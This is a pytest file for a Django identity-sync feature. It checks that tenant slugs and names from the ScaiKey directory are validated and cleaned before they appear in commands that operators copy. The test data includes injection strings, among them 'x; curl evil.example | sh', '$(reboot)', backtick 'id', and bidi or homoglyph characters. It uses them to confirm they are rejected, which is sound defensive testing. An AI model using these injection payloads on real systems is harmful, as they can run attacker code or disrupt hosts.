"""Slugs and names of ScaiKey are untrusted: they end up in commands that operators copy."""

from __future__ import annotations

import shlex
from collections.abc import Mapping

import pytest

from scaiwave.sandbox import Sandbox
from tenants.models import Group, Participant, Partner, Role, Tenant
from tests.identity_sync.sync.helpers import (
    ADMIN,
    assert_partial,
    get_changed_counts,
    get_last_run,
    list_groups,
    list_people,
    sync,
)
from tests.tenants.factories import make_tenant, run_command

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.sandbox(partners=2, tenants=3, people=12, groups=3),
]
TENANTS = f"{ADMIN}/tenants/"


def respond_with_tenants(scaikey: Sandbox, *rows: Mapping[str, object]) -> None:
    tenants = [*scaikey.directory.tenants.values(), *rows]
    scaikey.faults.add("wrong_shape", path=TENANTS, body={"data": tenants, "total": len(tenants)})


@pytest.mark.parametrize(
    ("slug", "problem"),
    [
        ("x; curl evil.example | sh", "';' is not allowed"),
        ("$(reboot)", "'$' is not allowed"),
        ("--all", "it begins or ends with a hyphen"),
        ("a", "it has 1 character"),
        ("a" * 300, "it has 300 characters"),
        ("admin", "the word is reserved"),
        ("аcme", "'а' is not allowed"),
        ("acme\u202egro", "'\\u202e' is not allowed"),
    ],
)
def test_fail_invalid_slug(scaikey: Sandbox, slug: str, problem: str) -> None:
    respond_with_tenants(scaikey, {"id": "tnt_evil", "name": "Evil", "slug": slug})

    caught = assert_partial()

    assert Tenant.objects.count() == 3
    assert not Tenant.objects.filter(scaikey_tenant_id="tnt_evil").exists()
    assert f"Skipped tenants whose slug is invalid: {slug[:200]} ({problem})." in caught.message
    assert get_last_run().warnings == [
        f"Skipped tenant Evil (tnt_evil): {slug[:200]!r} can't be its slug: {problem}."
    ]
    assert caught.fix == ("Change the slug of tenant tnt_evil in ScaiKey, then run the sync again.")
    assert get_changed_counts(caught.report)["tenants"] == {"added": 3, "skipped": 1}


def test_fail_many_invalid_slugs_are_summed_up(scaikey: Sandbox) -> None:
    bad = [{"id": f"tnt_{n}", "name": "Evil", "slug": f"${n}"} for n in range(100)]
    respond_with_tenants(scaikey, *bad)
    caught = assert_partial()
    assert "$4 ('$' is not allowed) and 95 more. Everything else" in caught.message
    assert len(caught.fix) < 1000
    warnings = get_last_run().warnings
    assert (len(warnings), warnings[-1]) == (
        21,
        "The slugs of 80 further tenants can't be used either.",
    )


def test_fail_an_existing_tenant_keeps_its_slug_and_is_synced(synced: Sandbox) -> None:
    first, second, _ = synced.directory.tenants.values()
    slug = first["slug"]
    first.update(slug="`id`", name="Renamed")
    person = next(row["id"] for row in list_people(synced))

    assert_partial()

    tenant = Tenant.objects.get(scaikey_tenant_id=first["id"])
    assert (tenant.slug, tenant.name) == (slug, "Renamed")
    assert Participant.objects.get(scaikey_id=person).is_active
    # What an older release stored stays, and is no longer worth a warning.
    first["slug"] = slug
    Tenant.objects.filter(scaikey_tenant_id=second["id"]).update(slug="Old Slug")
    second["slug"] = "Old Slug"
    assert sync().warnings == []


def test_success_a_tenant_without_a_slug_gets_one_of_its_id(scaikey: Sandbox) -> None:
    respond_with_tenants(
        scaikey,
        {"id": "tnt_8f3a", "name": "New", "slug": None},
        {"id": "'; drop", "name": "New", "slug": None},
    )
    sync()
    slugs = dict(Tenant.objects.values_list("scaikey_tenant_id", "slug"))
    assert (slugs["tnt_8f3a"], slugs["'; drop"]) == ("tnt-8f3a", "drop")


def test_success_names_lose_what_no_reader_sees(scaikey: Sandbox) -> None:
    partner, tenant = (
        next(iter(rows.values()))
        for rows in (scaikey.directory.partners, scaikey.directory.tenants)
    )
    partner.update(name="North\u202ewind\u200b", slug="Not A Slug")
    tenant.update(name="\u2066\u200b")
    person, group = list_people(scaikey)[0]["id"], list_groups(scaikey)[0]["id"]
    scaikey.directory.update_user(person, display_name="An\u202ena\u2028 Kov\u00e1cs")
    scaikey.directory.update_group(group, name="Core\u200e")

    warnings = sync().warnings

    row = Partner.objects.get(scaikey_id=partner["id"])
    assert (row.name, row.slug) == ("Northwind", "")
    assert warnings == [
        f"'Not A Slug' can't be the slug of partner {partner['id']}: 'N' is not allowed. The "
        "partner is stored without that slug."
    ]
    assert Tenant.objects.get(scaikey_tenant_id=tenant["id"]).name == tenant["slug"]
    assert Participant.objects.get(scaikey_id=person).display_name == "Anna Kovács"
    assert Group.objects.get(scaikey_id=group).name == "Core"


def test_fail_a_role_that_looks_like_a_built_in_one(scaikey: Sandbox) -> None:
    person = list_people(scaikey)[0]["id"]
    scaikey.directory.update_user(person, roles=["superadmin", "super-admin", "editor"])
    report = sync()
    assert set(Role.objects.values_list("slug", flat=True)) == {"editor"}
    assert report.warnings == [
        "Roles whose names can't be slugs, or look like a built-in role, were not granted: "
        "'super-admin', 'superadmin'."
    ]
    # A role that an older release created stays.
    tenant = Participant.objects.get(scaikey_id=person).tenant
    Role.objects.create(tenant=tenant, slug="superadmin", name="x", created_at="2026-01-01T00Z")
    sync()
    assert Role.objects.get(slug="superadmin").grants.count() == 1


def test_fail_a_slug_that_a_partner_took_is_never_taken_over(
    synced: Sandbox,
) -> None:
    """Each resolution is one command, and the wrong one is not suggested."""
    owner, thief = synced.directory.partners
    taken = make_tenant(
        "zenith", scaikey_tenant_id=None, partner=Partner.objects.get(scaikey_id=thief)
    )
    make_tenant("zenith-local", scaikey_tenant_id=None)
    new = synced.directory.add_tenant(name="Zenith", slug="zenith", partner_id=owner, people=2)

    assert_partial()
    caught = assert_partial()
    taken.refresh_from_db()
    assert (taken.scaikey_tenant_id, taken.slug) == (None, "zenith")
    assert "link-tenant" not in caught.fix
    assert caught.fix == (
        "The two tenants have different partners, so they are not the same one: do not link them. "
        "Rename the local one: `scaiwave admin update-tenant zenith --slug zenith-local-2`."
    )

    run_command_of(caught.fix)
    sync()
    taken.refresh_from_db()
    assert taken.slug == "zenith-local-2"
    assert Tenant.objects.get(slug="zenith").scaikey_tenant_id == new


def run_command_of(fix: str) -> None:
    """Run the last command that a hint names."""
    program, group, command, *arguments = shlex.split(fix.split("`")[-2])
    assert (program, group) == ("scaiwave", "admin")
    run_command(command.replace("-", "_"), *arguments)
